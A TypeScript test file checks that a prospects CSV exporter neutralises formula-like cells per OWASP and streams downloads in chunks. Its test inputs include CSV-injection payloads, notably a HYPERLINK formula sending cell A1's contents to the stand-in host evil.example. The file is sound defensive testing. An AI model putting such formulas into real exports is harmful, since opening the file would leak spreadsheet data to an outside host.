/** Exports safe to open: no cell of a CSV we write, nor any ";"-separated item in it, starts like a spreadsheet formula. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, inChunks } from '../../src/lib/csv.ts';
import { prospectCsvLine } from '../../src/prospects/render.ts';
import type { Prospect } from '../../src/prospects/schema.ts';

const readBack = (line: string): string[] => parse(line, { relax_column_count: true })[0];

describe('CSV cells are neutralised per OWASP', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1'])(
    '%j gets a leading quote',
    (text) => {
      expect(readBack(csvLine([text, 'x']))).toEqual([`'${text}`, 'x']);
    },
  );

  it('numbers stay numbers, negative ones included; ordinary text is unchanged', () => {
    expect(csvLine([-3, -0.5, 0, 'Acme', "O'Brien", 'a-b', null, ['=x', 'y']])).toBe(`-3,-0.5,0,Acme,O'Brien,a-b,,'=x;y\n`);
  });

  it.each([
    ['a list item', ['aws', '=HYPERLINK("http://evil.example","x")'], `aws;'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['a list item after an empty one', ['a', '', '+1'], "a;;'+1"],
    ['an item of a text cell split on ";"', 'Acme;@SUM(A1)', "Acme;'@SUM(A1)"],
  ])('%s that starts like a formula gets a leading quote too', (_what, value, expected) => {
    const cell = csvCell(value);
    expect(cell.startsWith('"') ? cell.slice(1) : cell).toBe(expected);
  });

  it('property: any text or list reads back as itself, each ";"-separated part with one leading quote when it starts like a formula', () => {
    const neutralised = (text: string) =>
      text
        .split(';')
        .map((part) => (/^[=+\-@\t\r]/.test(part) ? `'${part}` : part))
        .join(';');
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.array(fc.string({ unit: 'binary' }), { maxLength: 5 })), (value) => {
        const [cell] = readBack(`${csvCell(value)},end\n`);
        const text = Array.isArray(value) ? value.join(';') : value;
        expect(cell).toBe(neutralised(text));
        for (const part of cell.split(';')) expect(part).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('the prospects CSV neutralises a hostile account name, reasons, similar accounts and lists', () => {
    const prospect: Prospect = {
      domain: 'evil.example',
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      score: 0.9,
      tier: 'A',
      subscores: { fit: 0.8, similarity: 0.7, intent: -0.1, criteria: null },
      reasons: [{ feature: 'industry:x', label: '@risk', direction: 'positive', weight: 0.2 }],
      similarTo: [],
      dataCoverage: { share: 1, missing: [] },
      account: {
        domain: 'evil.example',
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        industry: '+industry',
        employees: 10,
        revenue: null,
        country: 'US',
        region: '-region',
        city: '\tcity',
        foundedYear: 2001,
        businessModel: 'b2b',
        stage: null,
        technologies: ['=cmd'],
        keywords: [],
        description: null,
      },
    };
    const cells = readBack(prospectCsvLine(prospect, 1));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    expect(cells[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(cells[7]).toBe('-0.1'); // a number: stays a number
  });
});

describe('streamed downloads', () => {
  it('go out in chunks of at least the chunk size (the last one shorter), the text unchanged', async () => {
    const lines = Array.from({ length: 1000 }, (_, i) => `row ${i},${'x'.repeat(i % 50)}\n`);
    async function* source() {
      yield* lines;
    }
    const chunks: string[] = [];
    for await (const chunk of inChunks(source(), 1024)) chunks.push(chunk);
    expect(chunks.join('')).toBe(lines.join(''));
    expect(chunks.slice(0, -1).every((c) => c.length >= 1024)).toBe(true);
    expect(chunks.length).toBeLessThan(lines.length / 10);
  });
});
